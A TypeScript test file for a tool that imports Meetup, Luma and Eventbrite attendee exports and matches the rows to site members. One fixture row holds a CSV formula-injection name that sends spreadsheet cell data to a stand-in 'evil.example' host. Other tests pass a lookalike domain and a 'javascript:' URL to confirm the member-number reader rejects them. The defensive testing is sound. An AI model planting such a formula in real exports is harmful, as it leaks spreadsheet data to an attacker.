/**
 * Each platform's export told by its header, each row read into a name,
 * whether the person came, and Meetup's member number; and the matching of
 * those rows to members, by account, then by one member's name.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { meetupMemberOf, readAttendees } from '../../../src/contribute/attendance/export-formats.ts';
import { matcherFor } from '../../../src/contribute/attendance/match.ts';
import { readExport } from '../../../src/contribute/attendance/read-export.ts';
import type { Person } from '../../../src/content/model.ts';
import { FIXTURES } from '../../helpers/build.ts';

function attendeesOf(file: string) {
  const read = readExport(readFileSync(join(FIXTURES, 'attendance', file)));
  if (!read.ok) throw new Error(read.reason);
  const recognised = readAttendees(read.rows);
  if (!recognised.ok) throw new Error(recognised.reason);
  return recognised;
}
const person = (handle: string, name: string, website?: string): Person =>
  ({ handle, name, accounts: website ? { website } : {}, met: [], listed: true, file: `content/people/${handle}.md`, body: '' }) as Person;

describe('readAttendees', () => {
  it("reads Meetup's export: Attended only, the member number from the profile's address", () => {
    const { platform, attendees } = attendeesOf('meetup.csv');
    expect(platform).toBe('Meetup');
    expect(attendees.map((a) => [a.row, a.name.normalize('NFC'), a.attended, a.meetupMember])).toEqual([
      [2, 'ada  quill', true, '1001'],
      [3, 'F. Nakamura', true, '424242'],
      [4, 'Ben Ortiz', false, '1003'],
      [5, 'Dev Shadow', false, '1004'],
      [6, 'Cléo Martin', true, '1005'],
      [7, 'Zoe Stranger', true, '1006'],
      [8, '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', true, '1007'],
      [9, 'Ada Quill', true, '1001'],
    ]);
  });

  it("reads Luma's export: checked in when checked_in_at is filled, the name or else first and last", () => {
    const { platform, attendees } = attendeesOf('luma.csv');
    expect(platform).toBe('Luma');
    expect(attendees.map((a) => [a.name, a.attended])).toEqual([
      ['Ada Quill', true],
      ['Ben Ortiz', false],
      ['Cléo Martin', true],
      ['+1 (646) 555-0199', true],
      ['Rosa Newcomer', true],
    ]);
    // The question's header spans two lines: the rows still start at 2.
    expect(attendees[0]?.row).toBe(2);
  });

  it("reads Eventbrite's export: Checked In, or a filled check-in column unless the status says they did not come", () => {
    expect(attendeesOf('eventbrite.csv').attendees.map((a) => [a.name, a.attended])).toEqual([
      ['Ben Ortiz', true],
      ['Ada Quill', true],
      ['Cléo Martin', false],
      ['Milo Visitor', true],
      ['Dev Shadow', false],
    ]);
    const semicolon = attendeesOf('eventbrite-semicolon.csv');
    expect(semicolon.platform).toBe('Eventbrite');
    expect(semicolon.attendees.map((a) => [a.name, a.attended])).toEqual([
      ['Ada Quill', true],
      ['Ben Ortiz', false],
      ['Anouk Van; Dijk', true],
    ]);
  });

  it('never carries a cell other than the name, the attendance and the member number', () => {
    for (const file of ['meetup.csv', 'luma.csv', 'eventbrite.csv', 'eventbrite-semicolon.csv']) {
      const { attendees } = attendeesOf(file);
      expect(new Set(attendees.flatMap((a) => Object.keys(a))), file).toEqual(
        new Set(['row', 'name', 'attended', ...(file === 'meetup.csv' ? ['meetupMember'] : [])]),
      );
      // Luma's walk-in typed a phone number as their name (+1 (646) 555-0199): only the name cell may hold it, for shownName to hide.
      expect(JSON.stringify(attendees), file).not.toMatch(/@mail\.example|555[- ]01[0-8][0-9]|Pier Road|Step-free/);
    }
  });

  it('refuses an unknown export, saying which columns tell each platform', () => {
    const result = readAttendees([['Email', 'Phone', 'Full name']]);
    expect(result).toEqual({
      ok: false,
      reason:
        'the export is not one the import knows (3 columns): it reads the attendee export of Meetup, Luma or Eventbrite, told by these columns:\n' +
        '  Luma: api_id, name, checked_in_at\n  Meetup: Name, Attendance, URL of Member Profile or User ID\n  Eventbrite: First Name, Last Name, Attendee Status',
    });
    expect(readAttendees([])).toMatchObject({ ok: false, reason: expect.stringContaining('(no header row)') });
  });

  it("reads a Meetup member number only from meetup.com's members addresses", () => {
    expect(meetupMemberOf('https://www.meetup.com/members/123456/')).toBe('123456');
    expect(meetupMemberOf('https://meetup.com/night-writers/members/77/profile/')).toBe('77');
    expect(meetupMemberOf('https://www.meetup.com.evil.example/members/1/')).toBeUndefined();
    expect(meetupMemberOf('https://www.meetup.com/members/abc/')).toBeUndefined();
    expect(meetupMemberOf('javascript:alert(1)//meetup.com/members/1/')).toBeUndefined();
  });
});

describe('matcherFor', () => {
  const match = matcherFor([
    person('ada', 'Ada Quill'),
    person('finn', 'Finn Nakamura', 'https://www.meetup.com/members/424242/'),
    person('cleo', 'Cléo Martin'),
    person('sam-a', 'Sam Lee'),
    person('sam-b', 'sam  lee'),
  ]);
  const row = (name: string, meetupMember?: string) => ({ row: 2, name, attended: true, ...(meetupMember ? { meetupMember } : {}) });

  it('matches by the Meetup profile first, whatever the name, then by the name (NFC, spaces, case)', () => {
    expect(match(row('F. Nakamura', '424242'))).toEqual({ kind: 'matched', handle: 'finn', by: 'account' });
    expect(match(row('  ADA   quill ', '999'))).toEqual({ kind: 'matched', handle: 'ada', by: 'name' });
    expect(match(row('Cle\u0301o Martin'))).toEqual({ kind: 'matched', handle: 'cleo', by: 'name' });
  });

  it('never guesses: a name two members share is ambiguous, a near name is unmatched', () => {
    expect(match(row('Sam Lee'))).toEqual({ kind: 'ambiguous', handles: ['sam-a', 'sam-b'] });
    expect(match(row('Ada Quil'))).toEqual({ kind: 'unmatched' });
    expect(match(row('Cleo Martin'))).toEqual({ kind: 'unmatched' });
  });
});
